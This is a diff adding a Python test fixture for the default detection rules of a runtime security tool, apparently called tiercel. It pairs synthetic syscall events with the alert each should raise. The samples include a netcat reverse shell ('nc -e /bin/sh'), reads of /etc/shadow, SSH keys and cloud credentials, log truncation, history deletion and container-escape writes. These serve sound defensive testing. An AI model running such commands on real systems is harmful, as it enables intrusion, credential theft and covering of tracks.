@@ -1,0 +1,227 @@
+# ruff: noqa: E501 - one case per line reads best as a table
+"""Hand-built events for every default rule: (rule, case id, event, should it alert)."""
+
+from __future__ import annotations
+
+import socket
+from typing import Any
+
+from tiercel.events.model import Container, Event, Fd, Process
+
+O_RDONLY, O_WRONLY, O_CREAT, O_TRUNC = 0, 1, 0o100, 0o1000
+SEC = 1_000_000_000
+T0 = 1_700_000_000 * SEC
+
+
+def proc(comm: str, args: tuple[str, ...] = (), parent: str = "bash", uid: int = 0, tty: int = 0,
+         container: str = "", exepath: str = "", vpid: int = 0, started: int = T0,
+         gparent: str = "systemd") -> Process:
+    gp = Process(pid=1, ppid=0, comm=gparent, exepath=f"/usr/bin/{gparent}")
+    pp = Process(pid=10, ppid=1, comm=parent, exepath=f"/usr/bin/{parent}", parent=gp, args=["-c", "x"])
+    c = Container(id=container, name="web", image="nginx:1") if container else None
+    return Process(pid=100, ppid=10, comm=comm, exe=comm, exepath=exepath or f"/usr/bin/{comm}",
+                   args=list(args), uid=uid, user="root" if uid == 0 else "nobody", tty=tty, parent=pp,
+                   container_id=container, container=c, vpid=vpid or 100, start_ts=started)
+
+
+def ev(etype: str, p: Process, *, res: int = 0, fd: Fd | None = None, ts: int = T0 + SEC // 10,
+       abspath: str | None = None, dst: str | None = None, **args: Any) -> Event:
+    return Event(num=1, ts=ts, type=etype, dir="<", tid=p.pid, pid=p.pid, uid=p.uid, comm=p.comm,
+                 res=res, args=args, proc=p, fd=fd, abspath=abspath, abspath_dst=dst)
+
+
+def exec_(comm: str, *args: str, **kw: Any) -> Event:
+    p = proc(comm, args, **kw)
+    return ev("execve", p, filename=p.exepath, args=list(args))
+
+
+def open_(path: str, flags: int, comm: str = "cat", res: int = 3, **kw: Any) -> Event:
+    p = proc(comm, **kw)
+    return ev("openat", p, res=res, fd=Fd(num=3, typechar="f", name=path, openflags=flags),
+              abspath=path, dirfd=-100, name=path, flags=flags, mode=0o644)
+
+
+def connect(comm: str, sip: str, sport: int, **kw: Any) -> Event:
+    p = proc(comm, **kw)
+    fd = Fd(num=3, typechar="4", name=f"192.0.2.1:40000->{sip}:{sport}", l4proto="tcp",
+            cip="192.0.2.1", cport=40000, sip=sip, sport=sport)
+    return ev("connect", p, fd=fd, tuple=None, addr=(sip, sport))
+
+
+def container_event(mounts: list[dict[str, Any]] | None = None, privileged: bool = False) -> Event:
+    c = Container(id="abcdef123456", name="c1", image="busybox:1", privileged=privileged,
+                  mounts=mounts or [])
+    return Event(num=1, ts=T0, type="container", dir=">", tid=0, pid=0,
+                 proc=Process(pid=0, ppid=0, container_id=c.id, container=c))
+
+
+def mount(src: str, dst: str) -> dict[str, Any]:
+    return {"Source": src, "Destination": dst, "Mode": "ro", "RW": False, "Propagation": "rprivate"}
+
+
+def dup2(typechar: str, newfd: int, comm: str = "bash") -> Event:
+    p = proc(comm)
+    fd = Fd(num=newfd, typechar=typechar, name="192.0.2.1:40000->192.0.2.2:4444", l4proto="tcp",
+            cip="192.0.2.1", cport=40000, sip="192.0.2.2", sport=4444)
+    return ev("dup2", p, res=newfd, fd=fd, oldfd=3, newfd=newfd)
+
+
+CID = "0123456789ab"
+SHADOW = "/etc/shadow"
+CASES: list[tuple[str, str, Event, bool]] = [
+    ("Terminal shell in container", "docker exec -it", exec_("sh", parent="runc", tty=34816, container=CID), True),
+    ("Terminal shell in container", "on the host", exec_("bash", parent="sshd", tty=34816), False),
+    ("Terminal shell in container", "no tty", exec_("sh", parent="runc", container=CID), False),
+    ("Non-interactive shell in container", "docker exec sh -c",
+     exec_("sh", "-c", "id", parent="runc", container=CID, vpid=6), True),
+    ("Non-interactive shell in container", "entrypoint shell (pid 1)",
+     exec_("sh", parent="runc", container=CID, vpid=1), False),
+    ("Non-interactive shell in container", "not a shell", exec_("cat", parent="runc", container=CID), False),
+    ("Run shell untrusted", "nginx -> sh", exec_("sh", "-c", "id", parent="nginx"), True),
+    ("Run shell untrusted", "node -> bash in a container", exec_("bash", parent="node", container=CID), True),
+    ("Run shell untrusted", "sshd -> bash", exec_("bash", parent="sshd"), False),
+    ("Run shell untrusted", "nginx -> nginx", exec_("nginx", parent="nginx"), False),
+    ("Read sensitive file untrusted", "cat /etc/shadow", open_(SHADOW, O_RDONLY), True),
+    ("Read sensitive file untrusted", "ssh host key", open_("/etc/ssh/ssh_host_rsa_key", O_RDONLY), True),
+    ("Read sensitive file untrusted", "/root/.ssh", open_("/root/.ssh/id_rsa", O_RDONLY), True),
+    ("Read sensitive file untrusted", "sshd reads shadow", open_(SHADOW, O_RDONLY, comm="sshd"), False),
+    ("Read sensitive file untrusted", "failed open", open_(SHADOW, O_RDONLY, res=-13), False),
+    ("Read sensitive file untrusted", "/etc/passwd", open_("/etc/passwd", O_RDONLY), False),
+    ("Read sensitive file trusted after startup", "nginx after 2 s",
+     open_(SHADOW, O_RDONLY, comm="nginx", started=T0 - 2 * SEC), True),
+    ("Read sensitive file trusted after startup", "nginx at start", open_(SHADOW, O_RDONLY, comm="nginx"), False),
+    ("Create files below dev", "plain file", open_("/dev/evil", O_WRONLY | O_CREAT, comm="sh"), True),
+    ("Create files below dev", "/dev/null", open_("/dev/null", O_WRONLY, comm="sh"), False),
+    ("Create files below dev", "/dev/shm", open_("/dev/shm/x", O_WRONLY | O_CREAT, comm="sh"), False),
+    ("Create files below dev", "read only", open_("/dev/evil", O_RDONLY, comm="sh"), False),
+    ("System procs network activity", "ls connects", connect("ls", "192.0.2.2", 8080), True),
+    ("System procs network activity", "curl connects", connect("curl", "192.0.2.2", 8080), False),
+    ("System procs network activity", "ls to loopback", connect("ls", "127.0.0.1", 8080), False),
+    ("Write below etc", "new file in /etc", open_("/etc/evil.conf", O_WRONLY | O_CREAT, comm="sh"), True),
+    ("Write below etc", "dpkg writes /etc", open_("/etc/evil.conf", O_WRONLY, comm="dpkg"), False),
+    ("Write below etc", "read /etc", open_("/etc/evil.conf", O_RDONLY, comm="sh"), False),
+    ("Write below binary dir", "/usr/bin", open_("/usr/bin/evil", O_WRONLY | O_CREAT, comm="sh"), True),
+    ("Write below binary dir", "dpkg", open_("/usr/bin/evil", O_WRONLY | O_CREAT, comm="dpkg"), False),
+    ("Write below binary dir", "/usr/lib", open_("/usr/lib/evil", O_WRONLY | O_CREAT, comm="sh"), False),
+    ("Rename in binary dir", "rename into /usr/bin",
+     ev("renameat2", proc("mv"), abspath="/tmp/x", dst="/usr/bin/ls", oldpath="/tmp/x", newpath="/usr/bin/ls"),
+     True),
+    ("Rename in binary dir", "rename in /tmp",
+     ev("renameat2", proc("mv"), abspath="/tmp/x", dst="/tmp/y", oldpath="/tmp/x", newpath="/tmp/y"), False),
+    ("Rename in binary dir", "dpkg",
+     ev("rename", proc("dpkg"), abspath="/usr/bin/ls.new", dst="/usr/bin/ls", oldpath="/usr/bin/ls.new",
+        newpath="/usr/bin/ls"), False),
+    ("Mkdir binary dirs", "mkdir /bin/x", ev("mkdirat", proc("mkdir"), abspath="/bin/x", path="/bin/x"), True),
+    ("Mkdir binary dirs", "mkdir /tmp/x", ev("mkdirat", proc("mkdir"), abspath="/tmp/x", path="/tmp/x"), False),
+    ("Clear log activities", "truncate syslog", open_("/var/log/syslog", O_WRONLY | O_TRUNC, comm="sh"), True),
+    ("Clear log activities", "append to syslog", open_("/var/log/syslog", O_WRONLY, comm="sh"), False),
+    ("Clear log activities", "logrotate", open_("/var/log/syslog", O_WRONLY | O_TRUNC, comm="logrotate"), False),
+    ("Delete or rename shell history", "rm .bash_history",
+     ev("unlinkat", proc("rm"), abspath="/root/.bash_history", name="/root/.bash_history"), True),
+    ("Delete or rename shell history", "rm notes",
+     ev("unlinkat", proc("rm"), abspath="/root/notes", name="/root/notes"), False),
+    ("Search private keys or passwords", "find id_rsa", exec_("find", "/", "-name", "id_rsa"), True),
+    ("Search private keys or passwords", "grep private key", exec_("grep", "-r", "BEGIN RSA PRIVATE", "/"), True),
+    ("Search private keys or passwords", "find *.py", exec_("find", ".", "-name", "*.py"), False),
+    ("Create symlink over sensitive files", "ln -s /etc/shadow",
+     ev("symlinkat", proc("ln"), abspath="/tmp/s", target=SHADOW, linkdirfd=-100, linkpath="/tmp/s"), True),
+    ("Create symlink over sensitive files", "ln -s /etc/hosts",
+     ev("symlinkat", proc("ln"), abspath="/tmp/s", target="/etc/hosts", linkdirfd=-100, linkpath="/tmp/s"),
+     False),
+    ("Create hardlink over sensitive files", "ln /etc/shadow",
+     ev("linkat", proc("ln"), abspath=SHADOW, dst="/tmp/h", oldpath=SHADOW, newpath="/tmp/h"), True),
+    ("Create hardlink over sensitive files", "ln /etc/hosts",
+     ev("linkat", proc("ln"), abspath="/etc/hosts", dst="/tmp/h", oldpath="/etc/hosts", newpath="/tmp/h"),
+     False),
+    ("Packet socket created", "AF_PACKET",
+     ev("socket", proc("python3"), res=3, domain=socket.AF_PACKET, type=3, proto=0), True),
+    ("Packet socket created", "dhclient",
+     ev("socket", proc("dhclient"), res=3, domain=socket.AF_PACKET, type=3, proto=0), False),
+    ("Packet socket created", "AF_INET",
+     ev("socket", proc("python3"), res=3, domain=socket.AF_INET, type=1, proto=0), False),
+    ("Redirect STDOUT/STDIN to network connection", "dup2 socket to 0", dup2("4", 0), True),
+    ("Redirect STDOUT/STDIN to network connection", "dup2 socket to 5", dup2("4", 5), False),
+    ("Redirect STDOUT/STDIN to network connection", "dup2 pipe to 1", dup2("p", 1), False),
+    ("Netcat remote code execution", "nc -e", exec_("nc", "-e", "/bin/sh", "192.0.2.2", "4444"), True),
+    ("Netcat remote code execution", "nc -z", exec_("nc", "-z", "192.0.2.2", "4444"), False),
+    ("PTRACE attached to process", "PTRACE_ATTACH", ev("ptrace", proc("evil"), request=16, pid=5), True),
+    ("PTRACE attached to process", "gdb", ev("ptrace", proc("gdb"), request=16, pid=5), False),
+    ("PTRACE attached to process", "PTRACE_PEEKDATA", ev("ptrace", proc("evil"), request=2, pid=5), False),
+    ("PTRACE anti-debug attempt", "PTRACE_TRACEME", ev("ptrace", proc("evil"), request=0, pid=0), True),
+    ("PTRACE anti-debug attempt", "strace", ev("ptrace", proc("strace"), request=0, pid=0), False),
+    ("Linux kernel module injection", "init_module",
+     ev("init_module", proc("evil"), res=-8, length=12, uargs=""), True),
+    ("Linux kernel module injection", "modprobe",
+     ev("finit_module", proc("modprobe"), fd=None, uargs="", flags=0), False),
+    ("Detect release_agent file container escapes", "in a container",
+     open_("/sys/fs/cgroup/x/release_agent", O_WRONLY, comm="sh", container=CID), True),
+    ("Detect release_agent file container escapes", "on the host",
+     open_("/sys/fs/cgroup/x/release_agent", O_WRONLY, comm="sh"), False),
+    ("Read cloud credentials", "cat ~/.aws/credentials", open_("/root/.aws/credentials", O_RDONLY), True),
+    ("Read cloud credentials", "aws cli", open_("/root/.aws/credentials", O_RDONLY, comm="aws"), False),
+    ("Execution from /dev/shm", "/dev/shm/x", exec_("x", exepath="/dev/shm/x"), True),
+    ("Execution from /dev/shm", "/usr/bin/x", exec_("x"), False),
+    ("Fileless execution via memfd_create", "/proc/self/fd/3", exec_("3", exepath="/proc/self/fd/3"), True),
+    ("Fileless execution via memfd_create", "memfd: path", exec_("x", exepath="/memfd:x (deleted)"), True),
+    ("Fileless execution via memfd_create", "/usr/bin/x", exec_("x"), False),
+    ("Drop and execute new binary in container", "/tmp in a container",
+     exec_("x", exepath="/tmp/x", container=CID), True),
+    ("Drop and execute new binary in container", "/tmp on the host", exec_("x", exepath="/tmp/x"), False),
+    ("Drop and execute new binary in container", "/bin in a container",
+     exec_("x", exepath="/bin/x", container=CID), False),
+    ("Mount in container", "mount tmpfs",
+     ev("mount", proc("mount", container=CID), dev="none", dir="/mnt", type="tmpfs", flags=0), True),
+    ("Mount in container", "runc init",
+     ev("mount", proc("runc", ("init",), container=CID), dev="proc", dir="/proc", type="proc", flags=0), False),
+    ("Mount in container", "on the host",
+     ev("mount", proc("mount"), dev="none", dir="/mnt", type="tmpfs", flags=0), False),
+    ("Launch privileged container", "privileged", container_event(privileged=True), True),
+    ("Launch privileged container", "unprivileged", container_event(), False),
+    ("Launch sensitive mount container", "/etc mounted", container_event([mount("/etc", "/host-etc")]), True),
+    ("Launch sensitive mount container", "docker.sock",
+     container_event([mount("/var/run/docker.sock", "/var/run/docker.sock")]), True),
+    ("Launch sensitive mount container", "a data volume",
+     container_event([mount("/srv/data", "/data")]), False),
+    ("Non-root setuid to root", "nobody asks for 0",
+     ev("setuid", proc("evil", uid=65534), res=-1, uid=0), True),
+    ("Non-root setuid to root", "root drops", ev("setuid", proc("evil"), uid=65534), False),
+    ("Non-root setuid to root", "sudo", ev("setuid", proc("sudo", uid=1000), uid=0), False),
+    ("Set setuid or setgid bit", "chmod u+s",
+     ev("fchmodat", proc("chmod"), abspath="/tmp/x", dirfd=-100, filename="/tmp/x", mode=0o4755), True),
+    ("Set setuid or setgid bit", "chmod 755",
+     ev("fchmodat", proc("chmod"), abspath="/tmp/x", dirfd=-100, filename="/tmp/x", mode=0o755), False),
+    ("Outbound connection to crypto mining pool port", "port 3333", connect("xm", "192.0.2.2", 3333), True),
+    ("Outbound connection to crypto mining pool port", "port 443", connect("xm", "192.0.2.2", 443), False),
+    ("Access to another process's memory", "/proc/42/mem", open_("/proc/42/mem", O_RDONLY, comm="evil"), True),
+    ("Access to another process's memory", "/proc/42/maps", open_("/proc/42/maps", O_RDONLY, comm="evil"), False),
+    # incubating
+    ("Change thread namespace", "setns", ev("setns", proc("evil"), fd=None, nstype=0), True),
+    ("Change thread namespace", "runc", ev("setns", proc("runc"), fd=None, nstype=0), False),
+    ("Change namespace privileges via unshare", "unshare", ev("unshare", proc("evil"), flags=0x04000000), True),
+    ("Change namespace privileges via unshare", "ip netns",
+     ev("unshare", proc("ip"), flags=0x40000000), False),
+    ("Known crypto miner process executed", "xmrig", exec_("xmrig"), True),
+    ("Known crypto miner process executed", "make", exec_("make"), False),
+    ("DB program spawned process", "postgres -> true", exec_("true", parent="postgres"), True),
+    ("DB program spawned process", "postgres -> postgres", exec_("postgres", parent="postgres"), False),
+    ("User mgmt binaries", "useradd", exec_("useradd", "eve"), True),
+    ("User mgmt binaries", "useradd from dpkg", exec_("useradd", "eve", parent="dpkg"), False),
+    ("Schedule cron jobs", "crontab -e", exec_("crontab", "-e"), True),
+    ("Schedule cron jobs", "crontab -l", exec_("crontab", "-l"), False),
+    ("Schedule cron jobs", "write /etc/cron.d", open_("/etc/cron.d/evil", O_WRONLY | O_CREAT, comm="sh"), True),
+    ("Modify shell configuration file", ".bashrc", open_("/home/u/.bashrc", O_WRONLY, comm="sh"), True),
+    ("Modify shell configuration file", "read .bashrc", open_("/home/u/.bashrc", O_RDONLY, comm="bash"), False),
+    ("Adding ssh keys to authorized_keys", "write",
+     open_("/root/.ssh/authorized_keys", O_WRONLY, comm="sh"), True),
+    ("Adding ssh keys to authorized_keys", "known_hosts",
+     open_("/root/.ssh/known_hosts", O_WRONLY, comm="ssh"), False),
+    ("Read environment of another process", "/proc/42/environ",
+     open_("/proc/42/environ", O_RDONLY, comm="evil"), True),
+    ("Read environment of another process", "ps", open_("/proc/42/environ", O_RDONLY, comm="ps"), False),
+    ("Write below root", "/root/x", open_("/root/x", O_WRONLY | O_CREAT, comm="sh"), True),
+    ("Write below root", "/root/.bash_history", open_("/root/.bash_history", O_WRONLY, comm="bash"), False),
+    ("Launch suspicious network tool in container", "nmap", exec_("nmap", container=CID), True),
+    ("Launch suspicious network tool in container", "nmap on the host", exec_("nmap"), False),
+    ("Remove bulk data from disk", "shred", exec_("shred", "-u", "x"), True),
+    ("Remove bulk data from disk", "rm", exec_("rm", "x"), False),
+]
